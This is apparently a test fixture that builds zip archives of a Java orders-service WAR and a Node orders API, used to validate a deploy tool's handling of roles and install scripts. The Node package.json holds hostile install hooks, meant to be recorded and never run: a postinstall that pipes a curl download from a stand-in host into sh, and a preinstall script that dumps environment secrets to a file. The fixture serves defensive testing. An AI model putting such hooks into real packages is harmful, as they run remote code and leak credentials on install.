// Realistic archives for the deploy examples (deploy validation, seed 001): a WAR of an
// orders service (web.xml roles and constraints, @DeclareRoles-style roles file, an OSGi
// manifest, library JARs with pom.properties, docs) and a Node app (package.json whose
// install scripts are recorded and never run, a JSON roles file, docs). Built in memory
// with the project's zip writer; nothing is read from disk.
import { makeZip } from "../../scripts/make-zip-corpus.js";

const WEB_XML = `<?xml version="1.0" encoding="UTF-8"?>
<web-app xmlns="https://jakarta.ee/xml/ns/jakartaee" version="6.0">
  <display-name>Orders Service</display-name>
  <security-role><description>places and cancels orders</description><role-name>customer</role-name></security-role>
  <security-role><description>refunds and overrides</description><role-name>support</role-name></security-role>
  <security-role><description>reads everything, changes nothing</description><role-name>auditor</role-name></security-role>
  <security-constraint>
    <web-resource-collection>
      <web-resource-name>orders</web-resource-name>
      <url-pattern>/api/orders/*</url-pattern>
      <http-method>GET</http-method><http-method>POST</http-method>
    </web-resource-collection>
    <auth-constraint><role-name>customer</role-name><role-name>support</role-name></auth-constraint>
  </security-constraint>
  <security-constraint>
    <web-resource-collection>
      <web-resource-name>refunds</web-resource-name>
      <url-pattern>/api/refunds/*</url-pattern>
    </web-resource-collection>
    <auth-constraint><role-name>support</role-name></auth-constraint>
  </security-constraint>
  <security-constraint>
    <web-resource-collection>
      <web-resource-name>audit</web-resource-name>
      <url-pattern>/api/audit/*</url-pattern>
      <http-method>GET</http-method>
    </web-resource-collection>
    <auth-constraint><role-name>auditor</role-name></auth-constraint>
  </security-constraint>
</web-app>
`;

// 72-byte lines with continuation, as jar tools write them.
const MANIFEST = [
  "Manifest-Version: 1.0",
  "Bundle-ManifestVersion: 2",
  "Bundle-SymbolicName: com.example.orders.service",
  "Bundle-Version: 3.4.1",
  "Bundle-Name: Orders Service",
  'Import-Package: jakarta.servlet;version="[6.0,7)",jakarta.ws.rs;version="[3',
  ' .1,4)",org.slf4j;version="[2.0,3)"',
  "Created-By: 21.0.2 (Eclipse Adoptium)",
  "",
  "",
].join("\r\n");

function jar(group: string, artifact: string, version: string, classes: string[]): Buffer {
  return makeZip([
    { name: "META-INF/MANIFEST.MF", data: `Manifest-Version: 1.0\r\nBundle-SymbolicName: ${group}.${artifact}\r\nBundle-Version: ${version}\r\n\r\n` },
    { name: `META-INF/maven/${group}/${artifact}/pom.properties`, data: `groupId=${group}\nartifactId=${artifact}\nversion=${version}\n` },
    ...classes.map((c) => ({ name: `${c}.class`, data: Buffer.concat([Buffer.from("cafebabe0000004100", "hex"), Buffer.from(c.repeat(8))]) })),
  ]);
}

export function ordersServiceWar(): Buffer {
  const lib = jar("com.example", "orders-model", "3.4.1", ["com/example/orders/model/Order", "com/example/orders/model/LineItem", "com/example/orders/model/Refund"]);
  const slf = jar("org.slf4j", "slf4j-api", "2.0.13", ["org/slf4j/Logger", "org/slf4j/LoggerFactory"]);
  const page = (title: string) => `<!doctype html><html><head><title>${title}</title></head><body><h1>${title}</h1>${"<p>Orders dashboard.</p>".repeat(40)}</body></html>`;
  return makeZip([
    { name: "META-INF/", data: "" },
    { name: "META-INF/MANIFEST.MF", data: MANIFEST },
    { name: "META-INF/roles.properties", data: "# @DeclareRoles on OrdersResource and RefundsResource\nroles=customer, support, operator\n" },
    { name: "META-INF/maven/com.example/orders-service/pom.properties", data: "groupId=com.example\nartifactId=orders-service\nversion=3.4.1\n" },
    { name: "WEB-INF/", data: "" },
    { name: "WEB-INF/web.xml", data: WEB_XML },
    { name: "WEB-INF/lib/", data: "" },
    // Stored, as jar tools store nested archives.
    { name: "WEB-INF/lib/orders-model-3.4.1.jar", data: lib, method: 0 },
    { name: "WEB-INF/lib/slf4j-api-2.0.13.jar", data: slf, method: 0 },
    ...["OrdersResource", "RefundsResource", "AuditResource", "OrdersApplication"].map((c) => ({
      name: `WEB-INF/classes/com/example/orders/${c}.class`,
      data: Buffer.concat([Buffer.from("cafebabe0000004100", "hex"), Buffer.from(c.repeat(30))]),
    })),
    { name: "README.md", data: "# Orders Service\n\nPlaces, tracks and refunds orders.\n\n## Deploying\n\nPush the WAR with `trustplane deploy push`.\n\n## Roles\n\n### customer\n\n### support\n\n### auditor\n\n## Operations\n" },
    { name: "docs/", data: "" },
    { name: "docs/api.md", data: "# Orders API\n\n## GET /api/orders\n\n## POST /api/orders\n\n## POST /api/refunds/{id}\n\n```\n# not a heading: inside a code fence\n```\n" },
    { name: "index.html", data: page("Orders") },
    { name: "refunds.html", data: page("Refunds") },
  ]);
}

export function ordersApiNodeApp(): Buffer {
  const pkg = {
    name: "orders-api",
    version: "2.1.0",
    description: "Orders API (Node.js)",
    main: "src/server.js",
    license: "Apache-2.0",
    // Recorded by name; the deploy worker never runs them.
    scripts: { preinstall: "node scripts/fetch-secrets.js", postinstall: "curl -s http://example.invalid/x | sh", start: "node src/server.js" },
    dependencies: { express: "^4.19.2", pino: "^9.7.0", jose: "^6.0.0" },
  };
  return makeZip([
    { name: "package.json", data: JSON.stringify(pkg, null, 2) },
    { name: "trustplane-roles.json", data: JSON.stringify({ roles: [{ name: "orders.read", description: "lists and reads orders" }, { name: "orders.write", description: "creates and cancels orders" }, { name: "orders.admin" }] }, null, 2) },
    { name: "src/", data: "" },
    { name: "src/server.js", data: "import express from 'express';\nconst app = express();\napp.get('/orders', (_req, res) => res.json([]));\napp.listen(8080);\n" },
    { name: "src/auth.js", data: "export function requireRole(role) { return (req, res, next) => (req.roles?.includes(role) ? next() : res.sendStatus(403)); }\n" },
    { name: "scripts/fetch-secrets.js", data: "// would exfiltrate secrets if anything ran it\nrequire('child_process').execSync('env > /tmp/leak');\n" },
    { name: "README.md", data: "Orders API\n==========\n\nA small Node.js service.\n\nRunning\n-------\n\n## Configuration\n" },
    { name: "docs/", data: "" },
    { name: "docs/operations.md", data: "# Operations\n\n## Health checks\n\n## Scaling\n" },
  ]);
}
